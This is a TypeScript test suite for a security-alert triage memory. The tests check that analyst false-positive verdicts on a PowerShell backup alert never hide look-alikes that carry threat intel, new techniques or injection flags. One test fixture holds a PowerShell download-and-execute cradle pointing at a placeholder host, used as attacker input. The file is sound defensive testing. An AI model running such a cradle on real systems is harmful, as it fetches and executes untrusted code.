import type { Feedback, NormalizedAlert, TriageResult } from '@triage/contracts';
import { type RedisFixture, redisFixture } from '@triage/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AutonomyPolicy } from './autonomy-policy.ts';
import { alertWith, intelOn, noIntel, SENSOR_METADATA, signals, verdict } from './fixtures.test-support.ts';
import { similarityKey } from './similarity-key.ts';
import { threatProfile } from './threat-profile.ts';
import { type MemoryInput, VerdictMemory } from './verdict-memory.ts';

const run = async (m: VerdictMemory, input: MemoryInput) => (await m.apply(input)).result;

const RECOMMEND: AutonomyPolicy = {
  mode: 'recommend',
  minConfidence: 90,
  deciders: ['rules', 'memory'],
  byFormat: {},
  neverSeverities: ['Critical'],
  neverTactics: ['credential-access'],
  neverHosts: [],
  neverUsers: [],
};

/** A nightly backup job on a workstation: the routine an analyst closes as noise. */
function backup(
  cmd = 'powershell.exe -File C:\\Scripts\\backup.ps1 -Run 4411',
  host = 'WS-07',
): NormalizedAlert {
  return alertWith(
    signals(
      {
        detection: { vendor: 'sysmon', rule_id: '1', rule_name: 'PowerShell launched by a service' },
        host: { name: host },
        process: {
          image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          command_line: cmd,
        },
        parent: { image: 'C:\\Windows\\System32\\svchost.exe' },
        network: { src_ip: '185.220.101.52' },
      },
      SENSOR_METADATA,
    ),
  );
}

describe('VerdictMemory', () => {
  let fx: RedisFixture;
  let n = 0;
  beforeAll(async () => {
    fx = await redisFixture('verdict-memory');
  });
  afterAll(async () => fx.close());

  const memory = (policy = RECOMMEND) =>
    new VerdictMemory({ redis: fx.redis, prefix: `${fx.prefix}:m${++n}`, policy });

  async function judge(
    m: VerdictMemory,
    alert: NormalizedAlert,
    v: Feedback['verdict'],
    base: TriageResult = verdict(),
    extra: Partial<Pick<Feedback, 'scope' | 'comment'>> & { expires_in_days?: number } = {},
  ): Promise<Feedback> {
    const scope = extra.scope ?? 'similar';
    return m.feedback.create({
      alert_id: `a-${n}`,
      verdict: v,
      scope,
      analyst: 'dana',
      comment: extra.comment ?? 'nightly backup job',
      similarity: similarityKey(alert),
      threat: threatProfile(base, noIntel),
      ...(extra.expires_in_days ? { expires_in_days: extra.expires_in_days } : {}),
    });
  }

  it('closes a twin of an alert an analyst marked FALSE_POSITIVE, citing the feedback', async () => {
    const m = memory();
    const fb = await judge(m, backup(), 'FALSE_POSITIVE');
    const r = await run(m, {
      alertId: 'x1',
      alert: backup('powershell.exe -File C:\\Scripts\\backup.ps1 -Run 9050'),
      enrichment: noIntel,
      result: verdict(),
    });
    expect(r.classification).toBe('FALSE_POSITIVE');
    expect(r.decided_by).toBe('memory');
    expect(r.disposition).toBe('recommended_close');
    expect(r.memory).toEqual([
      expect.objectContaining({
        feedback_id: fb.id,
        analyst: 'dana',
        outcome: 'applied',
        comment: 'nightly backup job',
      }),
    ]);
    expect(r.reasoning[0]).toContain(fb.id);
    expect(r.reasoning[0]).toContain(fb.created_at.slice(0, 10));
    expect(r.reasoning[0]).toContain('nightly backup job');
    expect(r.similarity?.key).toBe(fb.similarity.key);
    expect((await m.feedback.get(fb.id))?.applied).toMatchObject({ count: 1, last_alert_id: 'x1' });
  });

  it('never hides an alert with malicious or new suspicious intel', async () => {
    const m = memory();
    await judge(m, backup(), 'FALSE_POSITIVE');
    for (const enrichment of [
      intelOn('185.220.101.52', 'malicious'),
      intelOn('185.220.101.52', 'suspicious'),
    ]) {
      const r = await run(m, { alertId: 'x', alert: backup(), enrichment, result: verdict() });
      expect(r.classification).toBe('NEEDS_REVIEW');
      expect(r.flags).toContain('memory_conflict');
      expect(r.memory?.[0]?.new_evidence?.[0]).toMatch(/^intel: 185\.220\.101\.52 is (malicious|suspicious)/);
    }
  });

  it('malicious intel breaks the suppression even when the judged alert had it too', async () => {
    const m = memory();
    await m.feedback.create({
      alert_id: 'a',
      verdict: 'FALSE_POSITIVE',
      scope: 'similar',
      analyst: 'dana',
      similarity: similarityKey(backup()),
      threat: threatProfile(verdict(), intelOn('185.220.101.52', 'malicious')),
    });
    const r = await run(m, {
      alertId: 'x',
      alert: backup(),
      enrichment: intelOn('185.220.101.52', 'malicious'),
      result: verdict(),
    });
    expect(r.classification).toBe('NEEDS_REVIEW');
  });

  it('never hides an alert with a new threat-leaning signal', async () => {
    const m = memory();
    await judge(m, backup(), 'FALSE_POSITIVE');
    const withTechnique = verdict({
      mitre: [{ id: 'T1105', name: 'Ingress Tool Transfer', tactic: 'command-and-control' }],
    });
    const r1 = await run(m, { alertId: 'x', alert: backup(), enrichment: noIntel, result: withTechnique });
    expect(r1).toMatchObject({ classification: 'NEEDS_REVIEW', flags: ['memory_conflict'] });
    expect(r1.memory?.[0]?.new_evidence).toEqual(['signal: T1105']);
    const injected = await run(m, {
      alertId: 'x',
      alert: backup(),
      enrichment: noIntel,
      result: verdict({ flags: ['injection_suspected'] }),
    });
    expect(injected.classification).toBe('NEEDS_REVIEW');
    const rulesSayThreat = await run(m, {
      alertId: 'x',
      alert: backup(),
      enrichment: noIntel,
      result: verdict({ classification: 'TRUE_POSITIVE', confidence: 80 }),
    });
    expect(rulesSayThreat.classification).toBe('TRUE_POSITIVE');
    expect(rulesSayThreat.flags).toContain('memory_conflict');
  });

  it('attacker-shaped content: folding alike needs the same words, and a look-alike still breaks on evidence', async () => {
    const m = memory();
    await judge(m, backup(), 'FALSE_POSITIVE');
    // Appending a cradle changes the folded command line: another key, no match at all.
    const appended = backup(
      'powershell.exe -File C:\\Scripts\\backup.ps1 -Run 4411; IEX(New-Object Net.WebClient).DownloadString("http://x/a")',
    );
    expect(similarityKey(appended).key).not.toBe(similarityKey(backup()).key);
    const r = await run(m, { alertId: 'x', alert: appended, enrichment: noIntel, result: verdict() });
    expect(r.decided_by).toBe('rules');
    // Same words, other numbers (the most an attacker can vary): the key matches, so any threat
    // evidence the rules find in it (here the technique of its payload) keeps it open.
    const lookalike = backup('powershell.exe -File C:\\Scripts\\backup.ps1 -Run 1337');
    expect(similarityKey(lookalike).key).toBe(similarityKey(backup()).key);
    const r2 = await run(m, {
      alertId: 'x',
      alert: lookalike,
      enrichment: noIntel,
      result: verdict({
        mitre: [{ id: 'T1059', name: 'Command and Scripting Interpreter', tactic: 'execution' }],
      }),
    });
    expect(r2.classification).toBe('NEEDS_REVIEW');
  });

  it('a key that rests on content alone never closes: attacker-written detection and host', async () => {
    const m = memory();
    const forged = (cmd: string) =>
      alertWith(
        signals(
          {
            detection: { rule_name: 'Routine job' },
            host: { name: 'WS-07' },
            process: { command_line: cmd },
          },
          [],
        ),
      );
    await judge(m, forged('backup.ps1'), 'FALSE_POSITIVE');
    const r = await run(m, {
      alertId: 'x',
      alert: forged('backup.ps1'),
      enrichment: noIntel,
      result: verdict(),
    });
    expect(r.classification).toBe('NEEDS_REVIEW');
    expect(r.decided_by).toBe('rules');
    expect(r.memory?.[0]?.outcome).toBe('conflict');
    // TRUE_POSITIVE feedback may still raise: content can only add suspicion.
    await judge(m, forged('evil.ps1'), 'TRUE_POSITIVE');
    const r2 = await run(m, {
      alertId: 'y',
      alert: forged('evil.ps1'),
      enrichment: noIntel,
      result: verdict(),
    });
    expect(r2).toMatchObject({
      classification: 'TRUE_POSITIVE',
      decided_by: 'memory',
      disposition: 'escalate',
    });
  });

  it('recall says before the verdict chain whether feedback will decide (then the LLM is not asked)', async () => {
    const m = memory();
    const twin = backup('powershell.exe -File C:\\Scripts\\backup.ps1 -Run 9050');
    expect((await m.recall(twin)).decisive).toBe(false);
    await judge(m, backup(), 'FALSE_POSITIVE');
    expect(await m.recall(twin)).toMatchObject({
      decisive: true,
      found: [expect.objectContaining({ verdict: 'FALSE_POSITIVE' })],
    });
    // Another host: no feedback on its key.
    expect((await m.recall(backup(undefined, 'WS-08'))).decisive).toBe(false);
    // A FALSE_POSITIVE on a key resting on content is found but decides nothing: the LLM still runs.
    const contentOnly = alertWith(
      signals({ detection: { rule_name: 'Routine job' }, host: { name: 'WS-07' } }, []),
    );
    await judge(m, contentOnly, 'FALSE_POSITIVE');
    const unanchored = await m.recall(contentOnly);
    expect(unanchored.found).toHaveLength(1);
    expect(unanchored.decisive).toBe(false);
    // The recall read first is what apply uses.
    const recall = await m.recall(twin);
    const r = await run(m, { alertId: 'rc', alert: twin, enrichment: noIntel, result: verdict(), recall });
    expect(r).toMatchObject({ classification: 'FALSE_POSITIVE', decided_by: 'memory' });
  });

  it('baselines observed before the verdict chain are what apply reasons with, counted once', async () => {
    const m = memory();
    const alert = backup();
    for (let i = 0; i < 3; i++)
      await run(m, { alertId: `b${i}`, alert, enrichment: noIntel, result: verdict() });
    // Read (and counted) with the recall, before the verdict: apply does not observe it again.
    const sim = m.keyOf(alert);
    const [recall, facts] = await Promise.all([m.recall(alert, sim), m.observe(alert, sim)]);
    expect(facts.detection).toMatchObject({ count: 3 });
    const r = await run(m, {
      alertId: 'b3',
      alert,
      enrichment: noIntel,
      result: verdict(),
      recall,
      facts: Promise.resolve(facts),
    });
    expect(r.reasoning.join(' ')).toMatch(/fired 3 times/);
    expect((await m.observe(alert)).detection).toMatchObject({ count: 4 });
  });

  it('TRUE_POSITIVE feedback raises matching alerts; TRUE_POSITIVE and FALSE_POSITIVE together escalate', async () => {
    const m = memory();
    await judge(m, backup(), 'TRUE_POSITIVE');
    const r = await run(m, {
      alertId: 'x',
      alert: backup(),
      enrichment: noIntel,
      result: verdict({ classification: 'FALSE_POSITIVE' }),
    });
    expect(r).toMatchObject({ classification: 'TRUE_POSITIVE', decided_by: 'memory' });
    await judge(m, backup(), 'FALSE_POSITIVE');
    const both = await run(m, { alertId: 'x', alert: backup(), enrichment: noIntel, result: verdict() });
    expect(both.classification).toBe('NEEDS_REVIEW');
    expect(both.memory?.map((c) => c.verdict).sort()).toEqual(['FALSE_POSITIVE', 'TRUE_POSITIVE']);
  });

  it('revoked feedback stops deciding at once; scope alert matches only the exact alert', async () => {
    const m = memory();
    const fb = await judge(m, backup(), 'FALSE_POSITIVE');
    await m.feedback.revoke(fb.id, 'lead');
    const r = await run(m, { alertId: 'x', alert: backup(), enrichment: noIntel, result: verdict() });
    expect(r.decided_by).toBe('rules');
    expect((await m.feedback.get(fb.id))?.revoked_by).toBe('lead');
    const audit = await m.feedback.audit();
    expect(audit.map((a) => a.action)).toEqual(['revoked', 'created']);

    const one = backup();
    await m.feedback.create({
      alert_id: 'one',
      verdict: 'FALSE_POSITIVE',
      scope: 'alert',
      analyst: 'dana',
      similarity: (await import('./similarity-key.ts')).alertKey(one),
      threat: threatProfile(verdict(), noIntel),
    });
    expect(
      (await run(m, { alertId: 'y', alert: one, enrichment: noIntel, result: verdict() })).decided_by,
    ).toBe('memory');
    expect(
      (await run(m, { alertId: 'z', alert: backup(), enrichment: noIntel, result: verdict() })).decided_by,
    ).toBe('rules');
  });

  it('expired feedback stops deciding and leaves the indexes', async () => {
    const m = memory();
    const fb = await judge(m, backup(), 'FALSE_POSITIVE', verdict(), { expires_in_days: 1 });
    expect(fb.expires_at).toBeDefined();
    const ttl = await fx.redis.pttl(`${fx.prefix}:m${n}:memory:fb:${fb.id}`);
    expect(ttl).toBeGreaterThan(86_000_000);
    // What the TTL will do in a day, now: the record goes.
    await fx.redis.del(`${fx.prefix}:m${n}:memory:fb:${fb.id}`);
    const r = await run(m, { alertId: 'x', alert: backup(), enrichment: noIntel, result: verdict() });
    expect(r.decided_by).toBe('rules');
    expect((await m.feedback.list(0, 10)).items).toEqual([]);
  });

  it('disposition follows the autonomy policy', async () => {
    const auto: AutonomyPolicy = {
      ...RECOMMEND,
      mode: 'auto-close',
      byFormat: { sentinel: { mode: 'recommend' } },
    };
    const m = memory(auto);
    const fp = verdict({ classification: 'FALSE_POSITIVE', confidence: 95 });
    const apply = (alert: NormalizedAlert, result: TriageResult) =>
      run(m, { alertId: 'x', alert, enrichment: noIntel, result });
    expect((await apply(backup(), fp)).disposition).toBe('auto_closed');
    expect((await apply(backup(), { ...fp, confidence: 80 })).disposition).toBe('recommended_close');
    expect((await apply(backup(), { ...fp, decided_by: 'llm' })).disposition).toBe('recommended_close');
    expect((await apply({ ...backup(), severity: 'Critical' }, fp)).disposition).toBe('recommended_close');
    expect((await apply({ ...backup(), format: 'sentinel' }, fp)).disposition).toBe('recommended_close');
    const cred = { ...fp, mitre: [{ id: 'T1110', name: 'Brute Force', tactic: 'credential-access' }] };
    expect((await apply(backup(), cred)).disposition).toBe('recommended_close');
    expect((await apply(backup(), verdict())).disposition).toBe('escalate');
  });
});
